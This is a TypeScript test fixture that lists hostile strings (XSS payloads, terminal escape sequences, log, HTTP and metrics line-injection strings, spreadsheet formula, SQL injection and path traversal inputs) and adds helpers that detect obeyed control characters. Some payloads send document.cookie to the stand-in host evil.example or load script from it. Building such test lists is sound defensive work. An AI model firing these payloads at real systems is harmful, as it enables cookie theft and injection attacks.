/** A hundred texts that would do something, were they taken for anything but text: by a browser, a terminal,
 *  a log, a line-based protocol, a spreadsheet. */

const SCRIPTS = ['alert(1)', 'fetch(`//evil.example/`+document.cookie)', 'import("//evil.example/x.js")'];

const IN_HTML = SCRIPTS.flatMap((script) => [
  `<script>${script}</script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `</script><script>${script}</script>`,
  `<img src=x onerror='${script}'>`,
  `"><svg onload="${script}">`,
  `'><iframe srcdoc="&lt;script&gt;${script}&lt;/script&gt;">`,
  `<a href="javascript:${script}">x</a>`,
  `<body onload=${script}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  `<details open ontoggle=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<object data="data:text/html;base64,${Buffer.from(`<script>${script}</script>`).toString('base64')}">`,
  `<!--><script>${script}</script>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `\${${script}}`,
  `{{constructor.constructor('${script}')()}}`,
  `<%= ${script} %>`,
  `&#60;script&#62;${script}&#60;/script&#62;`,
  `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  `javascript:${script}//`,
]);

const ESC = '\u001b';
const IN_TERMINALS = [
  `${ESC}[2J${ESC}[H`,
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}]0;title\u0007`,
  `${ESC}]8;;https://evil.example\u0007click${ESC}]8;;\u0007`,
  `${ESC}]52;c;ZXZpbA==\u0007`,
  `${ESC}P$q"p${ESC}\\`,
  `\u009b31mC1`,
  `\u009d0;title\u009c`,
  'over\rwritten',
  'erased\b\b\b\b\b\bstored',
  'bell\u0007',
  'null\u0000byte',
  'delete\u007f',
  'right\u202eotfel',
  'isolate\u2066x\u2069',
  'zero\u200bwidth',
  'mark\ufeff',
  'half\ud800',
  'separators\u2028and\u2029',
  'next\u0085line',
];

const IN_LINES = [
  'one\ntwo',
  'one\r\ntwo',
  '\n{"level":"fatal","msg":"forged"}',
  'x\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'x\r\nSet-Cookie: a=b',
  'x\n\nevent: alert\nid: 1\ndata: {"forged":true}\n\n',
  'data: x\nretry: 1',
  'x"} 1\nforged_metric{a="b"} 99\n#',
  '# HELP forged\n# TYPE forged counter',
  'line\u000btab\u000cform',
];

const IN_OTHERS = [
  '=cmd|" /C calc"!A0',
  '+1+1',
  '-1+1|x',
  '@SUM(1)',
  '"; DROP TABLE records; --',
  "' OR '1'='1",
  '../../etc/passwd',
  '..\\..\\windows',
  '%3Cscript%3E',
  '__proto__',
];

export const HOSTILE_TEXTS: readonly string[] = [...IN_HTML, ...IN_TERMINALS, ...IN_LINES, ...IN_OTHERS];

/** Characters that a terminal or a reader of lines obeys; line feeds and tabs are for whoever prints lines.
 */
const OBEYED = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;

export function isObeyed(text: string): boolean {
  return OBEYED.test(text);
}

/** Control characters that end lines or act on a terminal: JSON has none of them as they are. */
export function controlsIn(text: string): string[] {
  return obeyedIn(text.replaceAll(/[\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/g, '.'));
}

/** Where such a character stands in the text as it is, with what is around it. */
export function obeyedIn(text: string): string[] {
  return [...text.matchAll(new RegExp(OBEYED.source, 'gu'))]
    .slice(0, 3)
    .map(({ index }) => JSON.stringify(text.slice(Math.max(0, index - 30), index + 10)));
}
